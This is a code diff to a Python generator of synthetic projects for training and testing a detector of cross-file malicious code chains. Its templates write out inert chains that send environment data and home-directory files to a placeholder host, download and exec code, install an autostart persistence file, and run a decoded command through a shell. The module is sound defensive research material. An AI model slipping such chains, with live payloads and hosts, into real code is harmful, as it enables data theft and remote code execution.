@@ -1,10 +1,12 @@
 """Synthetic projects: standard-library packages with injected, inert cross-file "malicious" chains [A04].
 
 Benign base: 4-8 files of one standard-library package, read as text (never imported). Every project, benign or
-malicious, receives look-alike decoys: single-file uses of the same APIs with constant inputs, and one cross-file
-benign chain (decode in one file, consumed by a harmless sink in another). A malicious project additionally
-receives one behaviour chain split across 2-3 files (decode -> exec; environment -> encode -> network; download
--> exec; chr-joined string -> eval). Nothing here is ever executed: payloads decode to comments, hosts use the
+malicious, receives look-alike decoys: single-file uses of the same APIs with constant inputs, one cross-file benign
+chain (decode in one file, consumed by a harmless sink in another), and one chain slot: a malicious project gets
+one behaviour chain split across 2-3 files there (decode -> exec; environment -> encode -> network; download
+-> exec; chr-joined string -> eval; and, held out for testing, file -> network, download -> persistence,
+hex -> process), a benign project the same template's mirror (same functions, files, tags and calls; its sinks
+see only constants). Nothing here is ever executed: payloads decode to comments, hosts use the
 reserved ``.invalid`` top-level domain, and projects live only in memory as ``{path: source}``.
 """
 
@@ -13,6 +15,7 @@ from __future__ import annotations
 import base64
 from dataclasses import dataclass, field
 from functools import lru_cache
+from typing import Sequence
 
 import numpy as np
 
@@ -81,39 +84,97 @@ def _codes() -> str:
     return repr([ord(c) for c in "0  # inert"])
 
 
-# templates: each returns [(file slot, code)], the chain's function names, and a kind
+# templates. A malicious template returns [(file slot, code)], the chain's function names and its kind; its
+# *mirror* (same function count, same files, the same behaviour tags and the same call edges) is what every
+# benign project gets in its place, so function counts, names, tags and call structure do not tell the classes
+# apart. What differs is the data flow: in the malicious chain the source's result reaches the sink (the graph's
+# ``flow`` edges); in the mirror the sink only ever sees constants.
 
-def _chain_decode_exec(rng, names, mods):
+def _hex() -> str:
+    return INERT.encode().hex()
+
+
+def _chain_decode_exec(rng, names, mods, mirror=False):
     f1, f2 = _name(rng, names), _name(rng, names)
-    return [(0, f"def {f1}():\n    import base64\n    return base64.b64decode({_b64()!r}).decode()\n"),
-            (1, f"def {f2}():\n    from {mods[0]} import {f1}\n    code = {f1}()\n"
-                f"    exec(compile(code, '<{f2}>', 'exec'), {{}})\n")], [f1, f2], "decode->exec"
+    src = f"def {f1}():\n    import base64\n    return base64.b64decode({_b64()!r}).decode()\n"
+    use = (f"def {f2}():\n    from {mods[0]} import {f1}\n    code = {f1}()\n"
+           f"    exec(compile(code, '<{f2}>', 'exec'), {{}})\n") if not mirror else (
+          f"def {f2}():\n    from {mods[0]} import {f1}\n    text = {f1}()\n    ns = {{}}\n"
+          f"    exec(compile('value = 1 + 1', '<{f2}>', 'exec'), ns)\n    return len(text) + ns['value']\n")
+    return [(0, src), (1, use)], [f1, f2], "decode->exec"
 
 
-def _chain_exfil(rng, names, mods):
+def _chain_exfil(rng, names, mods, mirror=False):
     f1, f2, f3 = _name(rng, names), _name(rng, names), _name(rng, names)
-    return [(0, f"def {f1}():\n    import os, socket\n    return {{'u': os.environ.get('USER', ''), "
-                f"'h': socket.gethostname()}}\n"),
-            (1, f"def {f2}(d):\n    import base64, json\n    return base64.b64encode(json.dumps(d).encode())\n"),
-            (2, f"def {f3}():\n    import urllib.request\n    from {mods[0]} import {f1}\n"
-                f"    from {mods[1]} import {f2}\n    body = {f2}({f1}())\n"
-                f"    return urllib.request.urlopen('http://{_host(rng)}/c', data=body)\n")], [f1, f2, f3], "env->network"
+    a = (f"def {f1}():\n    import os, socket\n    return {{'u': os.environ.get('USER', ''), "
+         f"'h': socket.gethostname()}}\n")
+    b = f"def {f2}(d):\n    import base64, json\n    return base64.b64encode(json.dumps(d).encode())\n"
+    c = (f"def {f3}():\n    import urllib.request\n    from {mods[0]} import {f1}\n"
+         f"    from {mods[1]} import {f2}\n    body = {f2}({f1}())\n"
+         f"    return urllib.request.urlopen('http://{_host(rng)}/c', data=body)\n") if not mirror else (
+        f"def {f3}():\n    import urllib.request\n    from {mods[0]} import {f1}\n"
+        f"    from {mods[1]} import {f2}\n    body = {f2}({{'ping': 1}})\n    seen = len({f1}())\n"
+        f"    return urllib.request.urlopen('https://{_host(rng)}/health', data=body), seen\n")
+    return [(0, a), (1, b), (2, c)], [f1, f2, f3], "env->network"
 
 
-def _chain_download_exec(rng, names, mods):
+def _chain_download_exec(rng, names, mods, mirror=False):
     f1, f2 = _name(rng, names), _name(rng, names)
-    return [(0, f"def {f1}():\n    import urllib.request\n"
-                f"    return urllib.request.urlopen('http://{_host(rng)}/p').read()\n"),
-            (1, f"def {f2}():\n    from {mods[0]} import {f1}\n    exec({f1}())\n")], [f1, f2], "download->exec"
+    src = f"def {f1}():\n    import urllib.request\n    return urllib.request.urlopen('http://{_host(rng)}/p').read()\n"
+    use = f"def {f2}():\n    from {mods[0]} import {f1}\n    exec({f1}())\n" if not mirror else (
+          f"def {f2}():\n    import json\n    from {mods[0]} import {f1}\n    blob = {f1}()\n"
+          f"    exec('ready = True', {{}})\n    return json.loads(blob)\n")
+    return [(0, src), (1, use)], [f1, f2], "download->exec"
 
 
-def _chain_chr_eval(rng, names, mods):
+def _chain_chr_eval(rng, names, mods, mirror=False):
     f1, f2 = _name(rng, names), _name(rng, names)
-    return [(0, f"def {f1}():\n    return ''.join(chr(c) for c in {_codes()})\n"),
-            (1, f"def {f2}():\n    from {mods[0]} import {f1}\n    return eval({f1}())\n")], [f1, f2], "chr->eval"
+    src = f"def {f1}():\n    return ''.join(chr(c) for c in {_codes()})\n"
+    use = f"def {f2}():\n    from {mods[0]} import {f1}\n    return eval({f1}())\n" if not mirror else (
+          f"def {f2}():\n    from {mods[0]} import {f1}\n    label = {f1}()\n"
+          f"    return eval('1 + 1', {{'__builtins__': {{}}}}), label.strip()\n")
+    return [(0, src), (1, use)], [f1, f2], "chr->eval"
 
 
-CHAINS = (_chain_decode_exec, _chain_exfil, _chain_download_exec, _chain_chr_eval)
+def _chain_file_network(rng, names, mods, mirror=False):
+    f1, f2 = _name(rng, names), _name(rng, names)
+    src = (f"def {f1}():\n    import os, pathlib\n"
+           f"    return pathlib.Path(os.path.expanduser('~/.placeholder_{f1[1:]}')).read_text()\n")
+    use = (f"def {f2}():\n    import urllib.request\n    from {mods[0]} import {f1}\n    body = {f1}().encode()\n"
+           f"    return urllib.request.urlopen('http://{_host(rng)}/u', data=body)\n") if not mirror else (
+          f"def {f2}():\n    import urllib.request\n    from {mods[0]} import {f1}\n    size = len({f1}())\n"
+          f"    return urllib.request.urlopen('https://{_host(rng)}/version.json').read(), size\n")
+    return [(0, src), (1, use)], [f1, f2], "file->network"
+
+
+def _chain_download_persist(rng, names, mods, mirror=False):
+    f1, f2 = _name(rng, names), _name(rng, names)
+    src = f"def {f1}():\n    import urllib.request\n    return urllib.request.urlopen('http://{_host(rng)}/s').read()\n"
+    use = (f"def {f2}():\n    import os, pathlib\n    from {mods[0]} import {f1}\n    script = {f1}().decode()\n"
+           f"    target = pathlib.Path(os.path.expanduser('~/.config/autostart/{f2[1:]}.desktop'))\n"
+           f"    target.write_text(script)\n") if not mirror else (
+          f"def {f2}():\n    import json, os, pathlib\n    from {mods[0]} import {f1}\n    meta = json.loads({f1}())\n"
+          f"    target = pathlib.Path(os.path.expanduser('~/.cache/{f2[1:]}.txt'))\n"
+          f"    target.write_text('ok')\n    return meta\n")
+    return [(0, src), (1, use)], [f1, f2], "download->persistence"
+
+
+def _chain_hex_process(rng, names, mods, mirror=False):
+    f1, f2 = _name(rng, names), _name(rng, names)
+    src = f"def {f1}():\n    return bytes.fromhex({_hex()!r}).decode()\n"
+    use = (f"def {f2}():\n    import subprocess\n    from {mods[0]} import {f1}\n    cmd = {f1}()\n"
+           f"    return subprocess.run(cmd, shell=True, check=False)\n") if not mirror else (
+          f"def {f2}():\n    import subprocess\n    from {mods[0]} import {f1}\n    note = {f1}()\n"
+          f"    return subprocess.run(['echo', 'ok'], check=False), note.strip()\n")
+    return [(0, src), (1, use)], [f1, f2], "hex->process"
+
+
+CHAINS = {"decode->exec": _chain_decode_exec, "env->network": _chain_exfil, "download->exec": _chain_download_exec,
+          "chr->eval": _chain_chr_eval, "file->network": _chain_file_network,
+          "download->persistence": _chain_download_persist, "hex->process": _chain_hex_process}
+#: the templates a reproduction trains on, and the ones it holds out for its test projects
+SEEN_TEMPLATES = ("decode->exec", "env->network", "download->exec", "chr->eval")
+HELD_OUT_TEMPLATES = ("file->network", "download->persistence", "hex->process")
 
 
 def _benign_chain(rng, names, mods):
@@ -153,9 +214,19 @@ def _decoy(rng, names) -> tuple[str, str]:
 # main generator
 
 def make_project(rng: np.random.Generator, malicious: bool, *, n_files: tuple[int, int] = (4, 8),
-                 n_decoys: tuple[int, int] = (3, 6)) -> Project:
-    """One synthetic project (in memory). Malicious and benign projects get the same number of injected files
-    and look-alike code, so neither file count, size nor API names tell them apart."""
+                 n_decoys: tuple[int, int] = (3, 6), templates: Sequence[str] | None = None) -> Project:
+    """One synthetic project (in memory) [A04].
+
+    Every project gets the same kinds and numbers of injected code: ``n_decoys`` single-file look-alikes, one
+    cross-file benign chain, and one *chain slot* filled from ``templates`` (default: all of ``CHAINS``). In a
+    malicious project the slot holds the template's malicious chain; in a benign one it holds the template's
+    mirror (same function count, files, behaviour tags and call edges; no source-to-sink data flow). So file
+    count, function count, injected-name style and behaviour tags carry no label information; only the data
+    flow does. ``kind`` records the template (``"benign/<template>"`` for a mirror).
+    """
+    tmpl = tuple(CHAINS) if templates is None else tuple(templates)
+    if not tmpl or any(t not in CHAINS for t in tmpl):
+        raise ValueError(f"templates must be a non-empty subset of {sorted(CHAINS)}, got {templates!r}")
     pkgs = _package_files()
     names = sorted(pkgs)
     pkg = names[int(rng.integers(len(names)))]
@@ -178,25 +249,28 @@ def make_project(rng: np.random.Generator, malicious: bool, *, n_files: tuple[in
     for slot, code in bparts:
         appended[slots[slot % len(slots)]].append(code)
     decoys += [f"{slots[i % len(slots)]}::{n}" for i, n in enumerate(bnames)]
-    truth, tfiles, kind = [], [], "benign"
+    slots = [paths[i] for i in rng.permutation(len(paths))]
+    name = tmpl[int(rng.integers(len(tmpl)))]
+    parts, fnames, kind = CHAINS[name](rng, used, [_mod(s) for s in slots], mirror=not malicious)
+    for slot, code in parts:
+        appended[slots[slot]].append(code)
+    placed = [f"{slots[i]}::{n}" for i, n in enumerate(fnames)]
+    truth, tfiles = [], []
     if malicious:
-        slots = [paths[i] for i in rng.permutation(len(paths))]
-        builder = CHAINS[int(rng.integers(len(CHAINS)))]
-        parts, fnames, kind = builder(rng, used, [_mod(s) for s in slots])
-        for slot, code in parts:
-            appended[slots[slot]].append(code)
-        truth = [f"{slots[i]}::{n}" for i, n in enumerate(fnames)]
-        tfiles = sorted({slots[i] for i in range(len(fnames))})
+        truth, tfiles = placed, sorted({slots[i] for i in range(len(fnames))})
+    else:
+        decoys += placed
+        kind = f"benign/{kind}"
     for p, codes in appended.items():
         if codes:
             files[p] = files[p].rstrip("\n") + "\n\n\n" + "\n\n".join(codes)
     return Project(files, int(malicious), truth, tfiles, decoys, kind)
 
 
-def make_dataset(n: int, seed: int) -> list[Project]:
-    """``n`` projects, half malicious, in a seeded random order."""
+def make_dataset(n: int, seed: int | Sequence[int], *, templates: Sequence[str] | None = None) -> list[Project]:
+    """``n`` projects, half malicious, in a seeded random order; chain slots drawn from ``templates``."""
     if n < 4:
         raise ValueError(f"need at least 4 projects, got {n}")
     rng = np.random.default_rng(seed)
     labels = rng.permutation(np.arange(n) % 2)
-    return [make_project(rng, bool(y)) for y in labels]
+    return [make_project(rng, bool(y), templates=templates) for y in labels]
